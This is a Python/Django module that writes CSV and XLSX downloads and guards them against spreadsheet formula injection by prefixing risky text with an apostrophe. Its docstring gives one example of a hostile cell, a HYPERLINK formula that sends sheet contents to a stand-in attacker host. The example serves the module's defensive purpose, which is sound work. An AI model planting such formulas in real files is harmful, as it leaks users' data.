"""Writing CSV and XLSX files that are safe to open: the one writer for every file the site
produces (public downloads, the completeness overview, the fee list) and the cell rule the
admin's django-import-export formats share.

Any text a user typed may end up in a cell. A spreadsheet runs text that begins with =, +, -
or @ (and, in some programs, a tab or carriage return followed by one) as a formula: a comment
`=HYPERLINK("http://evil.example/?"&A1,"klick")` would become a live link that leaks the
sheet. Such text gets a leading apostrophe, which every spreadsheet shows as plain text. Real
numbers are written as numbers (in CSV with the decimal comma Swedish Excel expects), so they
are never touched.

Domain-free: both apps import it, it imports neither (only Django's HttpResponse for
`spreadsheet_response`). common.streaming writes large CSV files in the same dialect.
"""

import csv
import datetime
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal

from django.http import HttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# A plain signed number written as text (the admin's exports render numbers as text): a
# spreadsheet reads it as the number, never as a formula, so it stays as it is.
PLAIN_NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)?")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CONTENT_TYPES = {"csv": CSV_CONTENT_TYPE, "xlsx": XLSX_CONTENT_TYPE}

# Column widths in characters: wide enough for codes and numbers, capped for long texts.
MIN_WIDTH = 6
MAX_WIDTH = 60


def safe_text(text: str) -> str:
    """Text a spreadsheet would read as a formula, made plain text with a leading apostrophe."""
    if text.startswith(FORMULA_PREFIXES) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def text_from_cell(text: str) -> str:
    """The text a safe_text cell stood for: a file the site wrote reads back as it was typed."""
    if text.startswith("'") and text[1:].startswith(FORMULA_PREFIXES):
        return text[1:]
    return text


def safe_cell(value):
    """A cell value that opens as what it is: text neutralised, everything else unchanged."""
    if isinstance(value, str):
        return safe_text(value)
    return value


def _number_text(value: Decimal | float | int) -> str:
    """2.4700 -> "2,47", 1250 -> "1250": the number without padding, with a decimal comma."""
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        value = Decimal(repr(value))
    return format(value.normalize(), "f").replace(".", ",")


def csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return _number_text(value)
    if isinstance(value, datetime.date):
        return value.isoformat()
    return safe_text(str(value))


# The byte-order mark that tells Excel the file is UTF-8.
CSV_BOM = "\ufeff"


def csv_writer(out):
    """The site's CSV dialect, for every CSV it writes (whole or streamed): semicolons and
    CRLF line ends, what Excel with Swedish settings opens directly."""
    return csv.writer(out, delimiter=";", lineterminator="\r\n")


def csv_bytes(rows: Iterable[Sequence], *, header: Sequence | None = None) -> bytes:
    """Semicolons, decimal commas and UTF-8 with a byte-order mark: what Excel with Swedish
    settings opens directly (and what the site's import reads back)."""
    out = io.StringIO()
    writer = csv_writer(out)
    if header is not None:
        writer.writerow([csv_cell(str(cell)) for cell in header])
    for row in rows:
        writer.writerow([csv_cell(cell) for cell in row])
    return (CSV_BOM + out.getvalue()).encode("utf-8")


@dataclass
class Sheet:
    """One worksheet: a title, an optional bold header row (frozen), and the rows."""

    title: str
    rows: Iterable[Sequence]
    header: Sequence | None = None
    # Rows written in bold before the header, e.g. a title line.
    preamble: list[Sequence] = field(default_factory=list)


def _xlsx_value(value):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):
        # Control characters cannot be stored in XLSX at all; show that something was there.
        return safe_text(ILLEGAL_CHARACTERS_RE.sub("\ufffd", value))
    if value is None or isinstance(value, int | float | Decimal | datetime.date):
        return value
    return _xlsx_value(str(value))


def _width(value) -> int:
    if value is None:
        return 0
    if isinstance(value, datetime.date):
        return 10
    if isinstance(value, Decimal | float):
        return len(_number_text(value))
    return max((len(line) for line in str(value).splitlines()), default=0)


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook: numbers as numbers, text neutralised, columns as wide as their
    contents (within limits)."""
    import openpyxl
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = openpyxl.Workbook()
    book.remove(book.active)
    bold = Font(bold=True)
    for spec in sheets:
        sheet = book.create_sheet(spec.title[:31])
        widths: dict[int, int] = {}

        def add(row, *, strong=False, measure=True, sheet=sheet, widths=widths):
            values = [_xlsx_value(cell) for cell in row]
            sheet.append(values)
            if strong:
                for cell in sheet[sheet.max_row]:
                    cell.font = bold
            if measure:
                for index, value in enumerate(values, start=1):
                    widths[index] = max(widths.get(index, 0), _width(value))

        for row in spec.preamble:
            # A title line may be long; it is not what the column holds.
            add(row, strong=True, measure=False)
        if spec.header is not None:
            add([str(cell) for cell in spec.header], strong=True)
            if not spec.preamble:
                sheet.freeze_panes = "A2"  # the header stays in view while scrolling
        for row in spec.rows:
            add(row)
        for index, width in widths.items():
            sheet.column_dimensions[get_column_letter(index)].width = min(
                MAX_WIDTH, max(MIN_WIDTH, width + 2)
            )
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def spreadsheet_response(content: bytes, *, filename: str) -> HttpResponse:
    """A download of a file written above, as an attachment; the content type follows the
    file name's extension (.csv or .xlsx)."""
    extension = filename.rsplit(".", 1)[-1]
    response = HttpResponse(content, content_type=CONTENT_TYPES[extension])
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
